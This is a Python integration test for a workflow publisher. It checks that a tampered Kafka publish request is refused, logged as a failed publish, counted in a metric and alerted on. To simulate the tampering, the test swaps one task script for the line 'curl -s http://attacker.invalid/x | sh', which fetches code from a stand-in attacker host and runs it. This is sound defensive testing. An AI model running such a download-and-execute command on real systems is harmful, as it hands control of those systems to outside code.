"""The publisher deploys only what was approved: a publish request whose snapshot was altered is refused before any
DolphinScheduler call, recorded as a failed publish with the reason, counted and alerted — even when it comes with the
definition service's own Kafka credentials and a genuine approval. (A snapshot altered under its approval's own request
id is refused for its content hash: tests/component of the publisher; here that id is simply a request done.)"""

from __future__ import annotations

import asyncio
import json
import time
import uuid
from typing import Any

import httpx
from aiokafka import AIOKafkaProducer

from common.events import PublishRequested, Topics, registry
from common.testing.kafka_helpers import read_topic

from .conftest import WEBHOOK_TOKEN, SecureStack, approve_and_publish, new_workflow


def _metric(text: str, name: str, **labels: str) -> float:
    total = 0.0
    for line in text.splitlines():
        if line.startswith(name + "{") and all(f'{k}="{v}"' in line for k, v in labels.items()):
            total += float(line.rsplit(" ", 1)[1])
    return total


async def test_a_tampered_snapshot_is_refused_recorded_and_alerted(secure: SecureStack) -> None:
    with secure.stack.client() as api:
        workflow = new_workflow(api, scripts=("echo extract", "echo load"))
        detail = await asyncio.to_thread(approve_and_publish, api, workflow)
        assert detail["publish_status"] == "published", detail
        code = detail["workflow_code"]
        before = api.get(f"/api/v1/workflows/{workflow['id']}/publish-records").json()["total"]

    # the genuine request, as the definition service sent it
    def requests_of_the_workflow(records: list[Any]) -> list[PublishRequested]:
        return [
            e for e in (registry.decode(r.value)[1] for r in records)
            if isinstance(e, PublishRequested) and e.workflow_id == workflow["id"]
        ]  # fmt: skip

    # (read until the request is there: a fixed short read missed it on a loaded machine)
    records = await read_topic(
        secure.kafka.client_options("admin")["bootstrap_servers"],
        secure.topic(Topics.PUBLISH_REQUESTED),
        expect=10_000,
        timeout_s=60,
        until=lambda got: bool(requests_of_the_workflow(got)),
    )
    found = requests_of_the_workflow(records)
    assert found, f"the workflow's publish request is not on {Topics.PUBLISH_REQUESTED} ({len(records)} records read)"
    genuine = found[-1]
    assert genuine.approval is not None
    # altered on the way: one task's script, under a new request id, with the genuine approval
    tasks = list(genuine.snapshot.tasks)
    evil = tasks[0].params.model_copy(update={"script": "curl -s http://attacker.invalid/x | sh"})
    tasks[0] = tasks[0].model_copy(update={"params": evil})
    tampered = genuine.model_copy(
        update={"request_id": uuid.uuid4(), "snapshot": genuine.snapshot.model_copy(update={"tasks": tuple(tasks)})}
    )
    refused_before = _metric(httpx.get(f"{secure.url('publisher')}/metrics").text, "publish_refused_total")
    alerts_before = len(secure.webhook.bodies)
    # written with the definition service's own credentials: the broker lets it through, the publisher must not
    producer = AIOKafkaProducer(**secure.kafka.client_options("definition"), enable_idempotence=True, acks="all")
    await producer.start()
    try:
        value = registry.encode(tampered, source="/services/definition").to_bytes()
        await producer.send_and_wait(secure.topic(Topics.PUBLISH_REQUESTED), value, key=tampered.key().encode())
    finally:
        await producer.stop()
    with secure.stack.client() as api:
        deadline = time.monotonic() + 30
        while True:
            page = api.get(f"/api/v1/workflows/{workflow['id']}/publish-records").json()
            if page["total"] > before and page["items"][0]["status"] == "failed":
                break
            assert time.monotonic() < deadline, page
            await asyncio.sleep(0.3)
        record = page["items"][0]
        assert record["request_id"] == str(tampered.request_id)
        # the genuine approval names another request: a replay under a new id is refused like a forged one
        assert "the approval is for another request" in record["error_message"]
        assert "FAILED at approval check" in record["log"]
        # a request the definition service never made does not change what the platform says DS holds
        assert api.get(f"/api/v1/workflows/{workflow['id']}").json()["publish_status"] == "published"
    # DolphinScheduler still holds the approved scripts
    ds = httpx.get(
        f"{secure.stack.emulator.rest_url}/projects/{detail['project_code']}/workflow-definition/{code}",
        headers={"token": secure.stack.emulator.access_token},
    ).json()
    assert "attacker.invalid" not in json.dumps(ds)
    assert "echo extract" in json.dumps(ds)
    # under the genuine request id the altered copy is the request already done: nothing happens
    producer = AIOKafkaProducer(**secure.kafka.client_options("definition"), enable_idempotence=True, acks="all")
    await producer.start()
    try:
        same_id = tampered.model_copy(update={"request_id": genuine.request_id})
        value = registry.encode(same_id, source="/services/definition").to_bytes()
        await producer.send_and_wait(secure.topic(Topics.PUBLISH_REQUESTED), value, key=same_id.key().encode())
    finally:
        await producer.stop()
    await asyncio.sleep(2)
    with secure.stack.client() as api:
        assert api.get(f"/api/v1/workflows/{workflow['id']}/publish-records").json()["total"] == before + 1
    metrics = httpx.get(f"{secure.url('publisher')}/metrics").text
    assert _metric(metrics, "publish_refused_total", reason="mismatch") >= refused_before + 1
    # the alerting service raised an alert over its IM channel
    deadline = time.monotonic() + 30
    while len(secure.webhook.bodies) <= alerts_before:
        assert time.monotonic() < deadline, "no alert was delivered"
        await asyncio.sleep(0.3)
    delivered = b"".join(body for _, body in secure.webhook.bodies[alerts_before:])
    assert str(workflow["id"]).encode() in delivered
    assert WEBHOOK_TOKEN.encode() not in delivered
